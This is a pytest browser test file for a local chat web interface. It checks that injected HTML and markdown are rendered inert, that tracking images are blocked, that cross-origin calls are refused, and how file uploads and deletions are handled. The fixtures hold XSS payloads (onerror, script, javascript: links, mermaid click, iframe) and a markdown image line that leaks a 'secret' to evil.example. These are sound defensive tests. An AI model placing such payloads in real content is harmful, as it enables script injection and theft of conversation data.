"""What a page must stand, in a real browser: foreign HTML, pictures that tell, deleting on the way, odd files."""

from __future__ import annotations

import os
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from edge.ui.web.desk import Desk
from edge.ui.web.talk import Document, Step, Turn
from tests.ui.browser import Browser
from tests.ui.test_browser import FIELD, answer, finished, said, send, slow, until
from tests.ui.test_web_answering import Scripted

MakeDesk, Serve = Callable[..., Desk], Callable[[Desk], str]
BAD = '<img src=x onerror="window.obeyed=1"><script>window.obeyed=2</script>'
EVERYTHING = f"""{BAD}

`` {BAD} ``

```html
{BAD}
```

~~~
{BAD}
~~~

[a](javascript:window.obeyed=3) <a href="javascript:window.obeyed=4">b</a> <javascript:window.obeyed=5>
![](x" onerror="window.obeyed=6) $$\\href{{javascript:window.obeyed=7}}{{x}}$$

```mermaid
graph TD; A["<img src=x onerror='window.obeyed=8'>"]-->B; click A "javascript:window.obeyed=9"
```

`a ``` {BAD}
- {BAD}

<iframe src="javascript:parent.obeyed=10"></iframe>"""
TELLING = "![a](http://evil.example/leak.png?q=secret) ![b](//evil.example/2.png) and text"


@pytest.fixture(autouse=True)
def quiet(browser: Browser, serve: Serve) -> Any:
    yield
    browser.close()
    faults = [each for each in browser.faults if "Content Security Policy" not in each and "404" not in each]
    browser.faults.clear()
    assert browser.outside == [] and faults == []


def test_nothing_of_a_conversation_is_obeyed(browser: Browser, make_desk: MakeDesk, serve: Serve) -> None:
    desk = make_desk()
    talk = desk.store.new()
    talk.title, talk.named = f"{BAD}</title>", True
    talk.turns = [
        Turn(role="user", content=EVERYTHING, documents=[Document(name=BAD, text="x", tokens=1)]),
        Turn(role="assistant", content=EVERYTHING, thought=EVERYTHING, ending="cancelled", notices=[BAD],
             steps=[Step(name=BAD, arguments=f"{BAD}\n```\n{BAD}", result=BAD, failed=True, before=EVERYTHING)]),
    ]  # fmt: skip
    desk.store.change(talk.id, lambda talk: None, new=talk)
    page = browser.open(f"{serve(desk)}?c={talk.id}", height=1400)
    page.locator("#edge-chat .bot").first.wait_for()
    for title in page.locator("#edge-chat .title[role=button]").all():
        title.click()
    page.locator(".edge-rail .row .more").click()
    until(lambda: page.locator("#edge-chat svg[id^=mermaid]").count() > 0 or page.locator("#edge-chat pre").count() > 4)
    page.wait_for_timeout(1000)
    assert page.evaluate("window.obeyed") is None
    assert page.locator("#edge-chat iframe").count() == 0
    assert [
        each for each in page.locator("#edge-chat a").all() if "javascript" in (each.get_attribute("href") or "")
    ] == []
    assert page.locator(".edge-bar h1").inner_text() == f"{BAD}</title>"
    assert BAD in page.locator("#edge-chat .bot").first.inner_text()
    browser.shoot(page, "hostile")


def test_a_picture_that_would_tell_what_was_said_is_not_asked_for(
    browser: Browser, make_desk: MakeDesk, serve: Serve
) -> None:
    page = browser.open(serve(make_desk(lambda: Scripted(TELLING))))
    send(page, "A secret.")
    finished(page)
    until(lambda: "and text" in said(page))
    until(lambda: any("Content Security Policy" in fault for fault in browser.faults))
    assert browser.outside == []


def test_another_page_gets_nothing_and_may_be_left_for_this_one(
    browser: Browser, make_desk: MakeDesk, serve: Serve
) -> None:
    desk = make_desk()
    here, elsewhere = serve(desk), serve(make_desk())  # another port is another page
    page = browser.open(elsewhere)
    got = page.evaluate(
        """async (here) => { const got = [];
        const body = new Blob([JSON.stringify({data: ["hi", []], fn_index: 0, session_hash: "x"})]);
        for (const [path, options] of [["config", {}], ["gradio_api/call/chat", {method: "POST", body}],
            ["gradio_api/queue/join", {method: "POST", mode: "no-cors", body}]])
          try { const answer = await fetch(here + path, options); got.push(answer.status); }
          catch { got.push("refused"); }
        return got; }""",
        here,
    )
    assert 200 not in got and len(got) == 3 and desk.store.entries() == []
    page.goto(here)
    page.locator(FIELD).wait_for()
    browser.faults.clear()


def test_what_is_edited_and_copied_is_what_was_written(
    browser: Browser, make_desk: MakeDesk, serve: Serve, tmp_path: Path
) -> None:
    desk = make_desk(lambda: Scripted("if x < 1 && y:", "again"))
    page = browser.open(serve(desk))
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    (tmp_path / "note.txt").write_text("seven apples", encoding="utf-8")
    page.locator(".edge-chips input[type=file]").set_input_files(tmp_path / "note.txt")
    page.locator(".edge-chips li").get_by_text("12 of 4,096 tokens").wait_for()
    send(page, "Is a < b && c in <b>?")
    finished(page)
    page.locator("#edge-chat button[title='Copy message']").last.click()
    until(lambda: page.evaluate("navigator.clipboard.readText()") == "if x < 1 && y:")
    page.locator("#edge-chat button[title='Edit']").first.click()
    field = page.locator("#edge-chat textarea")
    until(lambda: field.count() == 1 and field.input_value() == "Is a < b && c in <b>?")
    field.fill("Is a > b && c in <b>?")
    page.locator("#edge-chat button[title='Submit']").click()
    until(lambda: said(page).startswith("again"))
    finished(page)
    (entry,) = desk.store.entries()
    question = desk.store.get(entry.id).turns[0]
    assert question.content == "Is a > b && c in <b>?" and question.documents[0].name == "note.txt"


def test_two_tabs_ask_at_once_and_one_deletes_what_is_answered(
    browser: Browser, make_desk: MakeDesk, serve: Serve
) -> None:
    desk = make_desk(slow(0.05))
    first = browser.open(serve(desk))
    send(first, "a long way to go " * 20)
    until(lambda: "?c=" in first.url and "a long" in said(first))
    second = browser.open(first.url)
    second.locator("#edge-field .stop-button").wait_for()
    second.fill(FIELD, "me too")
    second.press(FIELD, "Enter")
    second.get_by_text("being answered already").wait_for()
    assert second.input_value(FIELD) == "me too"
    second.locator(".edge-rail .row .more").click()
    second.locator(".edge-rail").get_by_role("button", name="Delete").click()
    second.locator(".edge-rail").get_by_role("button", name="Delete").click()
    first.get_by_text("There is no conversation").wait_for()
    until(lambda: not desk.answers.running())
    assert desk.store.entries() == [] and list(desk.store.folder.glob("*.json")) == []
    finished(first)
    send(first, "and on")
    until(lambda: said(first).startswith("and on"))


def test_a_question_waits_for_its_file(browser: Browser, make_desk: MakeDesk, serve: Serve, tmp_path: Path) -> None:
    desk = make_desk()
    reading, read = threading.Event(), desk.read

    def slowly(path: Path, name: str) -> dict[str, Any]:
        assert reading.wait(30)
        return read(path, name)

    desk.read = slowly  # type: ignore[method-assign]
    page = browser.open(serve(desk))
    (tmp_path / "note.txt").write_text("seven apples", encoding="utf-8")
    page.locator(".edge-chips input[type=file]").set_input_files(tmp_path / "note.txt")
    chip = page.locator(".edge-chips li")
    chip.get_by_text("reading").wait_for()
    page.fill(FIELD, "How many?")
    page.press(FIELD, "Enter")
    page.get_by_text("note.txt is still being read").wait_for()
    assert page.input_value(FIELD) == "How many?" and desk.store.entries() == []
    reading.set()
    chip.get_by_text("12 of 4,096 tokens").wait_for()
    page.press(FIELD, "Enter")
    until(lambda: "seven apples" in said(page))


def test_files_that_are_none_and_a_message_of_megabytes(
    browser: Browser, make_desk: MakeDesk, serve: Serve, tmp_path: Path
) -> None:
    page = browser.open(serve(make_desk()), locale="zh-CN")
    (tmp_path / "bad.pdf").write_bytes(b"%PDF-1.7\n" + os.urandom(5000))
    (tmp_path / "bad.docx").write_bytes(b"PK\x03\x04" + os.urandom(5000))
    (tmp_path / "none.txt").write_bytes(b"")
    for name, told in (
        ("bad.pdf", "bad.pdf 已损坏"),
        ("bad.docx", "bad.docx 已损坏"),
        ("none.txt", "none.txt 是空文件"),
    ):
        page.locator(".edge-chips input[type=file]").set_input_files(tmp_path / name)
        page.locator(".edge-chips li.bad").get_by_text(told).wait_for()
    browser.shoot(page, "chinese-bad-files")
    page.evaluate(
        """(text) => { const field = document.querySelector("#edge-field textarea"); field.value = text;
        field.dispatchEvent(new Event("input", {bubbles: true})); }""",
        "word " * 200_000,
    )
    page.press(FIELD, "Enter")
    page.get_by_text("的上下文只容得下").wait_for()
    finished(page)
    browser.shoot(page, "chinese-error")
    send(page, "短的")
    until(lambda: said(page).startswith("短的"))


def test_a_folder_that_cannot_be_written_is_told_and_the_message_stays(
    browser: Browser, make_desk: MakeDesk, serve: Serve, tmp_path: Path
) -> None:
    (tmp_path / "conversations").write_text("a file where the folder should be", encoding="utf-8")
    page = browser.open(serve(make_desk()))
    page.fill(FIELD, "hello")
    page.press(FIELD, "Enter")
    page.get_by_text("cannot be written").wait_for()
    assert page.input_value(FIELD) == "hello" and answer(page).count() == 0


def test_a_comparison_is_stopped(browser: Browser, make_desk: MakeDesk, serve: Serve) -> None:
    desk = make_desk(slow(0.05))
    backend: Any = desk.host.backend
    page = browser.open(serve(desk))
    page.get_by_role("button", name="Compare").click()
    until(lambda: page.locator("#edge-left-model input").input_value() != "")
    page.locator("#edge-compare textarea").fill("word " * 60)
    page.get_by_role("button", name="Ask both").click()
    left = page.locator("#edge-left .prose.edge-answer")
    until(lambda: "word word" in left.inner_text())
    page.get_by_role("button", name="Stop").click()
    until(lambda: page.locator("#edge-right .prose.edge-figures").inner_text() == "stopped")
    assert "stopped" in page.locator("#edge-left .prose.edge-figures").inner_text()
    assert len(left.inner_text()) < 250 and len(backend.opened) == 1  # the other was not loaded for it
    page.get_by_role("button", name="Ask both").click()
    until(lambda: "word word" in left.inner_text())
    page.get_by_role("button", name="Chat", exact=True).click()  # leaving ends it, too
    page.locator(FIELD).wait_for()
    send(page, "hello")
    until(lambda: said(page).startswith("hello"))
    until(lambda: len(backend.closed) == len(backend.opened) - 1)
